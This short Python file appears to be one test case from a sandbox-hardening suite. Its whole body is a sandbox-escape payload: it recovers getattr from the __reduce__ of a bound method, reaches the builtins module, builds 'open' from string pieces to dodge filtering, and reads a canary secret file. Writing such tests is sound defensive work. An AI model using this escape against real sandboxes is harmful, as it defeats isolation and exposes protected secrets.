# T07: The reduction of a bound method holds getattr.
# aim: secret
# sealed: view
# confined: landlock
# process: nothing
getter, (owner, _) = "".join.__reduce__()
builtins = getter(getter, "__self__")
print(getter(builtins, "op" + "en")(canary["secret"]).read())
